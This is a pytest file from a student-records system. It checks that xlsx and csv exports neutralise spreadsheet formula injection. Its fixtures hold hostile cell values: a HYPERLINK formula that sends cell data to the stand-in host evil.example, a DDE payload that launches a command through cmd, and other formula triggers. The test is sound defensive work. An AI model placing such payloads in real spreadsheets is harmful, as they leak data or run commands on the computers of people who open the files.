"""Exports never hand a spreadsheet a formula: text that Excel or WPS would run (=, +, -, @, a leading tab or
carriage return) is written as text with a leading apostrophe, in xlsx and csv, whatever put it in the database
(an old-system migration, a roster from outside, a class or school named by an administrator)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from tests.admissions.helpers import school_a_row, workbook
from tests.conftest import World
from tests.reconcile.helpers import roster_xlsx
from xueji.admissions.models import ImportJob
from xueji.reconcile.services import roster_load
from xueji.students.exports import COLUMNS

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")'
HOSTILE = {
    "name": HYPERLINK,
    "home_address": "+1+cmd|' /C calc'!A0",
    "guardian_name": "-1",
    "guardian_relation": "@SUM(A1:A9)",
    "email": "\t=1+1",
    "former_name": "\r=2+2",
}


def xlsx_cells(content: bytes) -> list[str]:
    """Every text cell of every sheet, after checking that no cell is a formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, f"a formula in {name}"
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [
        cell
        for sheet in book.sheet_names
        for row in book.get_sheet_by_name(sheet).to_python()
        for cell in row
        if isinstance(cell, str)
    ]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def assert_inert(cells: list[str], *expected: str) -> None:
    """No cell starts like a formula, and each hostile ``expected`` value is there, defused."""
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    for value in expected:
        assert "'" + value in cells, value


@pytest.fixture
def hostile(world: World) -> World:
    student = world.student_a
    student.data = {**student.data, **HOSTILE}
    student.name = HYPERLINK
    student.student_no = "=3+4"
    student.save()
    world.class_a.name = "+2026级1班"
    world.class_a.save()
    world.school_a.name = "@东城职业教育中心"
    world.school_a.save()
    return world


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
@pytest.mark.parametrize("persona", ["registrar_a", "reviewer_a", "city_admin"])
def test_student_exports_defuse_formulas(hostile: World, file_format: str, persona: str) -> None:
    user = getattr(hostile, persona)
    response = hostile.client_for(user).post(
        reverse("students:export"), {"columns": [c.key for c in COLUMNS], "format": file_format}
    )
    assert response.status_code == 200 and response["Content-Disposition"].startswith("attachment")
    cells = xlsx_cells(response.content) if file_format == "xlsx" else csv_cells(response.content)
    expected = [HYPERLINK, "+2026级1班", "@SUM(A1:A9)", "\r=2+2"]
    if persona == "registrar_a":
        expected += ["=3+4", "+1+cmd|' /C calc'!A0", "\t=1+1", "-1"]  # personal: shown only to the registrar
    else:
        expected.append("@东城职业教育中心")  # the school column, for those who see several schools
    assert_inert(cells, *expected)


def test_statistics_workbook_defuses_formulas(hostile: World) -> None:
    response = hostile.client_for(hostile.registrar_a).get(
        reverse("stats:index"), {"dim": "class", "grade": "2026", "format": "xlsx"}
    )
    assert response.status_code == 200
    assert_inert(xlsx_cells(response.content), "+2026级1班")
    response = hostile.client_for(hostile.reviewer_a).get(
        reverse("stats:index"), {"dim": "school", "grade": "2026", "format": "xlsx"}
    )
    assert_inert(xlsx_cells(response.content), "@东城职业教育中心")


def test_reconcile_workbook_defuses_formulas(hostile: World, tmp_path: Path) -> None:
    """The roster comes from outside the system, unvalidated names and all."""
    rows = [["=1+1", "-2", HYPERLINK, "@110101201003070011", hostile.school_a.code, "+计算机应用", "@统一招生"]]
    roster_load(
        city=hostile.city,
        actor=hostile.city_admin,
        path=roster_xlsx(tmp_path / "名册.xlsx", rows),
        file_name="名册.xlsx",
        intake_year=2026,
    )
    response = hostile.client_for(hostile.city_admin).get(reverse("reconcile:export"), {"year": "2026"})
    assert response.status_code == 200
    assert_inert(xlsx_cells(response.content), "=1+1", "-2", HYPERLINK, "+计算机应用", "@统一招生")


@pytest.mark.usefixtures("immediate_tasks")
def test_import_failure_and_precheck_workbooks_defuse_formulas(
    world: World, tmp_path: Path, django_capture_on_commit_callbacks
) -> None:
    """The admission side's workbooks: the import's 失败数据 and the pre-check's annotated file give the
    registrar's cells back, formula-like ones defused."""
    source = workbook(
        tmp_path / "名单.xlsx",
        [school_a_row(1, name=HYPERLINK, guardian_name="-1", guardian_relation="@SUM(A1)"), school_a_row(2)],
    )
    client = world.client_for(world.registrar_a)
    with source.open("rb") as stream, django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("admissions:import_upload"), {"file": stream})
    job = ImportJob.objects.latest("pk")
    assert (job.status, job.failed_count) == (ImportJob.Status.DONE, 1)
    failures = client.get(reverse("admissions:import_failures", args=[job.pk]))
    assert_inert(xlsx_cells(b"".join(failures.streaming_content)), HYPERLINK, "-1", "@SUM(A1)")
    with source.open("rb") as stream:
        checked = client.post(reverse("admissions:precheck"), {"file": stream})
    annotated = client.get(reverse("admissions:precheck_annotated", args=[checked.context["token"]]))
    assert_inert(xlsx_cells(b"".join(annotated.streaming_content)), HYPERLINK, "-1", "@SUM(A1)")
